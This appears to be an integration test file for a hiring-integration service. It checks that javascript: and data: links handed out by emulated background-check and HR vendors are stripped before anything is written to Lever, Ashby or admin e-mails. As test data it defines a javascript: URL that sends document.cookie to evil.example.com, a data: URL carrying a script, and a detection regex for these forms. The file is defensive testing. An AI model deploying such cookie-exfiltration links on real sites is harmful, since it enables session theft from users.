import { hireWorkflowId, type OnboardingState } from '../../src/workflows/onboarding-definitions';
import { checkWorkflowId } from '../../src/workflows/definitions';
import { startStack, type Stack } from '../support/stack';
import { eventually, startedHandle, waitForCheckStatus, waitForNote } from '../support/waits';

/**
 * A vendor whose links are script (`javascript:`, `data:`): the emulators hand them out (the `/_sandbox/link-base`
 * knob), the checks and hires still end, and nothing carrying such a link reaches Lever, Ashby or an admin's
 * e-mail: the recruiter is told where to look instead. Real HTTP, Temporal dev server, PostgreSQL, SMTP.
 */

const SCRIPT_LINK = 'javascript:fetch(`//evil.example.com/?c=${document.cookie}`)//';
const DATA_LINK = 'data:text/html,<script>alert(document.cookie)</script>//';
/** What must appear nowhere we write: the schemes, and the script they carry. */
const FORBIDDEN = /javascript:|data:text|evil\.example\.com|<script>/i;

const PACKAGE_TAG = 'JUSTIFACTS BGC PKG: EmpCod[ID : 13558]';

describe('vendor links that are not https:// never reach the ATS or an e-mail', () => {
  let stack: Stack;

  /** Sets what the links of an emulator start with, over its sandbox API. */
  async function handOutLinksUnder(emulatorUrl: string, base: string) {
    const res = await fetch(`${emulatorUrl}/_sandbox/link-base`, {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ url: base }),
    });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ url: base });
  }

  beforeAll(async () => {
    stack = await startStack();
    await handOutLinksUnder(stack.justifacts.url, SCRIPT_LINK);
    await handOutLinksUnder(stack.victig.url, DATA_LINK);
    await handOutLinksUnder(stack.justworks.url, SCRIPT_LINK);
  });
  afterAll(async () => {
    await stack?.stop();
  });

  /** Everything the service wrote onto an opportunity in the Lever emulator: tags, links, notes. */
  const writtenToLever = (opportunityId: string) =>
    JSON.stringify({
      opportunity: stack.lever.opportunity(opportunityId),
      notes: stack.lever.notes(opportunityId),
    });

  /** A Lever connection to `vendor`, started by moving a candidate into `stage` (its own, as Lever tells all). */
  async function leverConnection(stage: string, vendor: Record<string, unknown>) {
    const account = stack.leverAccount();
    const triggerStageId = stack.lever.addStage(stage).id;
    const created = await stack.adminCreate({
      name: stack.unique('Customer'),
      lever: { ...account, triggerStageId },
      vendor,
    });
    stack.lever.addWebhook({
      event: 'candidateStageChange',
      url: created.webhookUrl,
      signatureToken: account.signatureToken,
    });
    return { ...created, triggerStageId };
  }

  function candidate(postingTags: string[]) {
    const posting = stack.lever.createPosting({ text: 'Site Reliability Engineer', tags: postingTags });
    return stack.lever.createOpportunity({
      name: 'Ada Lovelace',
      emails: [`ada-${Math.random().toString(36).slice(2)}@example.com`],
      postingId: posting.id,
      stageId: stack.lever.stageIdByName('Phone screen'),
    });
  }

  it('Lever → Justifacts: the check completes, the results note says the link was left out, and no link is written', async () => {
    const apiKey = stack.unique('justifacts-key');
    const callbackSecret = stack.unique('justifacts-callback');
    const conn = await leverConnection(stack.unique('Justifacts Check'), {
      type: 'justifacts',
      apiBaseUrl: stack.justifacts.apiBaseUrl,
      apiKey,
      callbackSecret,
      packages: [],
    });
    stack.justifacts.addAccount({ apiKey, callbackUrl: conn.vendorCallbackUrl, callbackSecret });
    const opp = candidate([PACKAGE_TAG]);
    await stack.lever.moveToStage(opp.id, conn.triggerStageId);
    const order = await eventually(
      () => stack.justifacts.orders().find((o) => o.reference === opp.id),
      30_000,
      'the Justifacts order',
    );
    const completed = await stack.justifacts.setStatus(order.orderId, 'COMPLETED');
    expect(completed.resultUrl).toMatch(/^javascript:/); // what Justifacts handed out

    await waitForCheckStatus(stack, conn.id, opp.id, 'Complete');
    const note = await waitForNote(stack, opp.id, 'Justifacts background check results:');
    expect(writtenToLever(opp.id)).not.toMatch(FORBIDDEN);
    expect(note.split('\n').slice(0, 2)).toEqual([
      'Justifacts background check results:',
      'Justifacts gave a link to the results that is not a safe https:// link, so it was left out: open the ' +
        'results in Justifacts.',
    ]);
    await eventually(
      () => (stack.lever.opportunity(opp.id).tags.includes('(Justifacts)Complete') ? true : undefined),
      30_000,
      'the Complete tag',
    );
    expect(stack.lever.opportunity(opp.id).links).toEqual([]);
    expect(writtenToLever(opp.id)).not.toMatch(FORBIDDEN);
  });

  it('Lever → VICTIG: the results note keeps VICTIG’s summary, says the report link was left out, and no data: link is written', async () => {
    const accountId = stack.unique('acct');
    const apiKey = stack.unique('victig-key');
    const callbackSecret = stack.unique('victig-cb');
    stack.victig.addAccount({ accountId, apiKey });
    const conn = await leverConnection(stack.unique('VICTIG Check'), {
      type: 'victig',
      apiBaseUrl: stack.victig.apiBaseUrl,
      accountId,
      apiKey,
      callbackSecret,
      defaultProduct: 'Criminal Package 1',
    });
    stack.victig.setCallback(accountId, { url: conn.vendorCallbackUrl, secret: callbackSecret });
    const opp = candidate([]);
    await stack.lever.moveToStage(opp.id, conn.triggerStageId);
    const order = await eventually(
      () => stack.victig.orders().find((o) => o.request.applicant.email === opp.emails[0]),
      30_000,
      'the VICTIG order',
    );
    await stack.victig.advance(order.orderId);
    const completed = await stack.victig.advance(order.orderId, { summary: 'No records found.' });
    expect(completed.results?.reportUrl).toMatch(/^data:/); // what VICTIG handed out

    await waitForCheckStatus(stack, conn.id, opp.id, 'Complete');
    const note = await waitForNote(stack, opp.id, 'VICTIG background check results:');
    expect(writtenToLever(opp.id)).not.toMatch(FORBIDDEN);
    expect(note).toContain(
      'VICTIG gave a link to the results that is not a safe https:// link, so it was left out: open the results in VICTIG.',
    );
    expect(note).toContain('Summary: No records found.');
    await eventually(
      () =>
        stack.lever.opportunity(opp.id).tags.includes('Background Check Status: Complete') ? true : undefined,
      30_000,
      'the Complete tag',
    );
    expect(writtenToLever(opp.id)).not.toMatch(FORBIDDEN);
  });

  it('Lever → Justworks: the pending hire is created, the admins’ e-mail and the note go without the review link', async () => {
    const justworksKey = stack.unique('jw-key');
    const admin = `maya-${stack.taskQueue}@acme.test`;
    stack.justworks.addCompany({
      apiKey: justworksKey,
      name: 'Acme Corp',
      admins: [{ name: 'Maya Admin', email: admin, permissions: ['manage_employees'] }],
    });
    const account = stack.leverAccount();
    const conn = await stack.adminCreate({
      name: stack.unique('Acme'),
      lever: { ...account },
      vendor: { type: 'justworks', apiBaseUrl: stack.justworks.apiBaseUrl, apiKey: justworksKey },
    });
    stack.lever.addWebhook({
      event: 'candidateHired',
      url: conn.webhookUrl,
      signatureToken: account.signatureToken,
    });
    const opp = candidate([]);
    await stack.lever.hire(opp.id);

    const handle = await startedHandle(stack.temporal.workflow.getHandle(hireWorkflowId(conn.id, opp.id)));
    const state = (await handle.result()) as OnboardingState;
    const [hire] = stack.justworks.pendingHires(justworksKey).filter((h) => h.external_id === opp.id);
    expect(hire?.review_url).toMatch(/^javascript:/); // what Justworks handed out
    expect(state).toMatchObject({ status: 'created', pendingHireId: hire!.id, reviewUrl: null, notified: 1 });

    const mails = stack.smtp.messages().filter((m) => m.to.includes(admin));
    expect(mails).toHaveLength(1);
    expect(mails[0]!.text).toContain('Review the pending hire in Justworks and invite the new member.');
    expect(mails[0]!.html ?? '').not.toContain('href');
    expect(JSON.stringify(mails)).not.toMatch(FORBIDDEN);
    const note = await waitForNote(stack, opp.id, 'pending hire was created');
    expect(note).toContain('The review link Justworks gave is not a safe https:// link, so it was left out.');
    expect(writtenToLever(opp.id)).not.toMatch(FORBIDDEN);
  });

  it('Ashby → Justifacts: the assessment is ended with a reason instead of a javascript: assessment_profile_url', async () => {
    const ashbyApiKey = stack.unique('ashby-key');
    stack.ashby.addOrganization({ apiKey: ashbyApiKey });
    const apiKey = stack.unique('justifacts-key');
    const callbackSecret = stack.unique('justifacts-callback');
    const emp = { code: 'EmpCod', id: '13558', name: 'Employment Screening', description: '' };
    const conn = await stack.adminCreate({
      name: stack.unique('Customer'),
      ashby: { apiBaseUrl: stack.ashby.apiBaseUrl, apiKey: ashbyApiKey },
      vendor: {
        type: 'justifacts',
        apiBaseUrl: stack.justifacts.apiBaseUrl,
        apiKey,
        callbackSecret,
        packages: [emp],
      },
    });
    const partner = stack.unique('justifacts');
    stack.ashby.registerPartner({
      name: partner,
      baseUrl: conn.partnerBaseUrl,
      secret: conn.partnerSecret,
      apiKey: ashbyApiKey,
    });
    stack.justifacts.addAccount({ apiKey, callbackUrl: conn.vendorCallbackUrl, callbackSecret });
    const started = await stack.ashby.startAssessment(partner, {
      assessmentTypeId: emp.id,
      candidate: { firstName: 'Grace', lastName: 'Hopper', email: `grace-${stack.taskQueue}@example.com` },
      job: { name: 'Compiler Engineer' },
    });
    expect(started.status).toBe(200);
    const assessmentId = started.assessmentId!;
    const order = await eventually(
      () => stack.justifacts.orders().find((o) => o.reference === assessmentId),
      30_000,
      'the Justifacts order',
    );
    const completed = await stack.justifacts.setStatus(order.orderId, 'COMPLETED');
    expect(completed.resultUrl).toMatch(/^javascript:/); // what Justifacts handed out

    await waitForCheckStatus(stack, conn.id, assessmentId, 'Complete');
    const cancelled = await eventually(
      () => stack.ashby.updates(assessmentId).find((u) => u.cancelled_reason !== undefined),
      30_000,
      'the cancelling update',
    );
    expect(cancelled.cancelled_reason?.value).toBe(
      'Justifacts completed the background check, but its link to the results is not a safe https:// link, ' +
        'so it was not passed on to Ashby. Open the results in Justifacts.',
    );
    expect(stack.ashby.updates(assessmentId).some((u) => u.assessment_profile_url !== undefined)).toBe(false);
    expect(JSON.stringify([stack.ashby.updates(assessmentId), stack.ashby.rejectedUpdates()])).not.toMatch(
      FORBIDDEN,
    );
  });

  it('Certn: the profile gets the service’s report link, which answers 502 instead of redirecting to a javascript: pdf_url', async () => {
    const conn = await stack.createConnection();
    const email = `ada-${stack.taskQueue}-certn@example.com`;
    const opp = stack.lever.createOpportunity({
      name: 'Ada Lovelace',
      emails: [email],
      stageId: stack.lever.stageIdByName('Phone screen'),
    });
    await stack.lever.moveToStage(opp.id, stack.lever.stageIdByName('Background Check'));
    const certnCase = await eventually(
      () => stack.certn.cases().find((c) => c.email_address === email),
      30_000,
      'the Certn case',
    );
    await stack.certn.setStatus(certnCase.id, 'COMPLETE');
    await stack.temporal.workflow.getHandle(checkWorkflowId(conn.id, opp.id)).result();
    const [link] = stack.lever.opportunity(opp.id).links;
    expect(new URL(link!).origin).toBe(stack.api.url);

    await handOutLinksUnder(stack.certn.url, SCRIPT_LINK);
    const res = await fetch(link!, { redirect: 'manual' });
    expect(res.status).toBe(502);
    expect(res.headers.get('location')).toBeNull();
    expect(res.headers.get('content-type')).toContain('application/problem+json');
    expect(await res.json()).toMatchObject({
      detail: 'Certn gave no usable link to the report; the connection may need new Certn settings.',
    });
    expect(writtenToLever(opp.id)).not.toMatch(FORBIDDEN);
  });

  it('the admin API refuses a base URL that is not https://, naming the field, and creates nothing', async () => {
    const before = await stack.adminFetch('/admin/connections');
    const account = stack.leverAccount();
    const certn = {
      type: 'certn',
      apiBaseUrl: stack.certn.apiBaseUrl,
      apiKey: 'k',
      webhookSecret: 's',
      packages: [{ name: 'Basic', packageId: 'p', default: true }],
    };
    const attempts: [Record<string, unknown>, string][] = [
      [{ lever: { ...account, apiBaseUrl: 'javascript:alert(1)' }, vendor: certn }, 'lever.apiBaseUrl'],
      [{ lever: account, vendor: { ...certn, apiBaseUrl: 'ftp://api.certn.co' } }, 'vendor.apiBaseUrl'],
      [
        { lever: account, vendor: { ...certn, apiBaseUrl: 'https://user:pass@api.certn.co' } },
        'vendor.apiBaseUrl',
      ],
    ];
    for (const [body, field] of attempts) {
      const res = await stack.adminFetch('/admin/connections', {
        method: 'POST',
        body: {
          name: 'Probe',
          ...body,
          lever: { ...(body.lever as object), triggerStageName: 'Background Check' },
        },
      });
      expect([field, res.status]).toEqual([field, 400]);
      expect(res.contentType).toContain('application/problem+json');
      expect((res.body as { errors: { path: string }[] }).errors.map((e) => e.path)).toEqual([field]);
    }
    expect((await stack.adminFetch('/admin/connections')).body).toEqual(before.body);
  });
});
